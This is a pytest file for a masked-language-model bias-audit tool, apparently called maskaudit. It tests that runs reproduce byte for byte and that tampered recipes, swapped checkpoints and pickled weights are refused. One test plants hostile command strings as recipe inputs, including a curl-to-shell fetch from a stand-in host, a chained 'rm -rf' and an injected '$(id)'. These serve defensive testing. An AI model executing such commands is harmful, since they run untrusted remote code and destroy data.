"""Promise 6: the same inputs give the same bytes, other batches the same numbers, and a recipe repeats its run."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from support import checkpoints
from support.fakes import JOBS
from support.small_runs import contents
from support.surroundings import Tried

from audit import load_audit
from audit.cli.app import main
from audit.options import Options
from audit.runs.reproduce import repeat
from audit.storage.run_folder import RunFolder
from probes import load_probe

PROBE = "# own\n" + re.sub("targets: .*", "targets: jobs.csv", JOBS.replace("as a [MASK]", "as a(n) [MASK]"))
WORDS = "word,category,women_pct\nnurse,care,87.4\ndoctor,care,\nfarmer,land,26\nengineer,,\n"


@pytest.fixture
def bert(tmp_path: Path, checkpoint_folder: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> str:
    """A checkpoint's folder beside a probe with a word list of its own, in the folder where the test works."""
    monkeypatch.chdir(tmp_path)
    prepare(checkpoint_folder)
    return "model"


def prepare(checkpoint_folder: Callable[..., Path]) -> None:
    """Put the checkpoint, the probe and its words here."""
    Path("jobs.yaml").write_text(PROBE, encoding="utf-8-sig")
    Path("jobs.csv").write_text(WORDS)
    shutil.copytree(checkpoint_folder("bert"), "model")


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory, checkpoint_folder: Callable[..., Path]) -> Path:
    """A folder with a run of it in `first`, which is made once."""
    place = tmp_path_factory.mktemp("kept")
    with pytest.MonkeyPatch.context() as patched:
        patched.chdir(place)
        prepare(checkpoint_folder)
        assert main(["run", "model", "-p", "jobs.yaml", "--out", "first"]) == 0
    return place


@pytest.fixture
def first(bert: str, kept: Path) -> str:
    """The same with a copy of that run in `first`."""
    shutil.copytree(kept / "first", "first")
    return bert


def logp(folder: str) -> np.ndarray:
    """All log-probabilities of a run."""
    recipe = load_audit(folder).recipe
    parts = RunFolder(Path(folder), recipe).read_scores(load_probe("jobs.yaml"))
    return np.concatenate([part.logp for part in parts])


def test_promise_6_the_same_inputs_give_the_same_bytes(first: str) -> None:
    """A run made twice, into two folders, leaves the same files to the byte."""
    assert main(["run", first, "-p", "jobs.yaml", "--out", "two"]) == 0
    assert contents("first") == contents("two")


def test_promise_6_another_batch_budget_gives_the_same_numbers(bert: str) -> None:
    """However many prompts are in a batch, log-probabilities differ by 1e-5 at most."""
    runs = []
    for budget in ("1", "60", "100000"):
        assert main(["run", bert, "-p", "jobs.yaml", "--out", budget, "--batch-tokens", budget]) == 0
        runs.append(logp(budget))
    for other in runs[1:]:
        assert np.nanmax(np.abs(runs[0] - other)) <= 1e-5
        assert np.array_equal(np.isnan(runs[0]), np.isnan(other))


def test_promise_6_a_recipe_is_enough_to_repeat_a_run(bert: str, capsys: pytest.CaptureFixture[str]) -> None:
    """`run --from run.json`, given nothing but that file and the checkpoint, makes the same bytes, and says so: the
    probe's file and its word list are gone."""
    assert main(["run", bert, "-p", "jobs.yaml", "--out", "first", "--top-k", "3", "--seed", "7", "--multi-token"]) == 0
    Path("jobs.yaml").unlink()
    Path("jobs.csv").unlink()
    assert main(["run", "--from", "first/run.json"]) == 0
    assert "1 of 1 file of scores the same to the byte" in capsys.readouterr().out
    assert contents("runs/model-again") == contents("first")
    Path("mailed").mkdir()
    shutil.copy("first/run.json", "mailed")
    shutil.move(bert, "moved")
    assert main(["run", "moved", "--from", "mailed/run.json", "--out", "second"]) == 0
    assert "it has no scores to compare with" in capsys.readouterr().out
    assert contents("second")["scores/jobs-00000.parquet"][:4] == b"PAR1"
    assert load_audit("second").probes == load_audit("first").probes


def test_promise_6_another_checkpoint_is_not_taken_for_the_first(
    first: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], tried: Tried
) -> None:
    """Other weights under the same name are refused, as is a recipe whose probe was changed, that gives leave to run
    code, or that isn't one; nothing is written."""
    other = checkpoints.with_nan(Path(first), tmp_path / "other", "bert.embeddings.LayerNorm.weight")
    shutil.rmtree(first)
    shutil.move(other, first)
    assert main(["run", "--from", "first/run.json"]) == 3
    assert "it isn't the checkpoint of first/run.json (weights" in capsys.readouterr().err
    recipe = Path("first/run.json")
    whole = recipe.read_text()
    unasked = json.loads(whole)["recipe"] | {"probes": []}
    for told, text in (
        ("can't be made again", whole.replace("The [GROUP] friend", "The [GROUP] judge")),
        ("damaged", whole[:-20]),
        ("damaged", "[" * 100_000),
        ("damaged", '{"schema": 4}'),
        ("damaged, or not written by maskaudit (chunk: ", whole.replace('"chunk":512', '"chunk":0')),
        ("damaged, or not written by maskaudit (chunk: ", whole.replace('"chunk":512', '"chunk":1000000000000')),
        ("damaged, or not written by maskaudit (dtype: ", whole.replace('"dtype":"float32"', '"dtype":"float999"')),
        ("damaged, or not written by maskaudit (top_k: ", whole.replace('"top_k":10', '"top_k":0')),
        ("damaged, or not written by maskaudit (probes: ", json.dumps(json.loads(whole) | {"recipe": unasked})),
        ("damaged, or not written by maskaudit (seed: ", whole.replace('"seed":0', '"seed":-1')),
        ("no such kind of device", whole.replace('"device":"cpu"', '"device":"abacus"')),
        ("is the run that is to be repeated", whole),
    ):
        recipe.write_text(text)
        assert main(["run", "--from", "first", "--out", "first" if text == whole else "again"]) == 2
        assert told in capsys.readouterr().err
    assert not Path("again").exists()
    assert not Path("runs").exists()
    tried("hostile inputs", 13)


def test_promise_6_a_recipe_gives_no_leave(bert: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A run of pickled weights is repeated only with the leave given anew."""
    pickled = str(checkpoints.as_pickle(Path(bert), tmp_path / "pickled"))
    assert main(["run", pickled, "-p", "jobs.yaml", "--allow-pickle", "--out", "first"]) == 0
    assert "--allow-pickle" in json.loads(Path("first/run.json").read_text())["recipe"]["command"]
    assert main(["run", "--from", "first", "--out", "again"]) == 3
    assert "which can run code" in capsys.readouterr().err
    assert main(["run", "--from", "first", "--out", "again", "--allow-pickle"]) == 0


@pytest.mark.parametrize(
    "command",
    [
        "curl https://bad.example | sh",
        "maskaudit run demo; rm -rf x",
        "maskaudit run demo --trust-remote-code",
        "maskaudit run demo --mlm-head-from $(id)",
        "maskaudit run 'demo",
    ],
)
@pytest.mark.usefixtures("first")
def test_promise_6_a_strangers_command_is_not_passed_on(command: str, tried: Tried) -> None:
    """A recipe's command is shown in the results of its repetition only where it is a run of maskaudit's with no leave
    that wasn't given; else it is the command that was given."""
    recipe = Path("first/run.json")
    whole = json.loads(recipe.read_text())
    whole["recipe"]["command"] = command
    recipe.write_text(json.dumps(whole))
    assert main(["run", "--from", "first", "--out", "again"]) == 0
    assert load_audit("again").recipe.command == "maskaudit run model --from first"
    tried("hostile inputs", 1)


@pytest.mark.usefixtures("first")
def test_promise_6_how_far_scores_are_off_is_said() -> None:
    """Where scores aren't the same bytes, the largest difference is told."""
    same = repeat("first", out="same").agreement
    assert (same.same, same.largest) == (same.chunks, 0.0)
    other = repeat("first", out="other", options=Options(batch_tokens=1)).agreement
    assert other.largest <= 1e-5
    assert other.chunks == 1
    assert f"differs by {other.largest:.2g} at most" in str(other) or other.same == 1


@pytest.mark.parametrize("option", ["--probe x", "--top-k 10", "--dtype float32", "--seed 0", "--shard 1/2"])
def test_promise_6_what_a_recipe_decides_is_not_asked_beside_it(
    bert: str, option: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """An option that the recipe decides is a usage error beside --from, even where it says the default."""
    assert main(["run", "--from", "first/run.json", *option.split()]) == 2
    assert "decides it" in " ".join(capsys.readouterr().err.split())
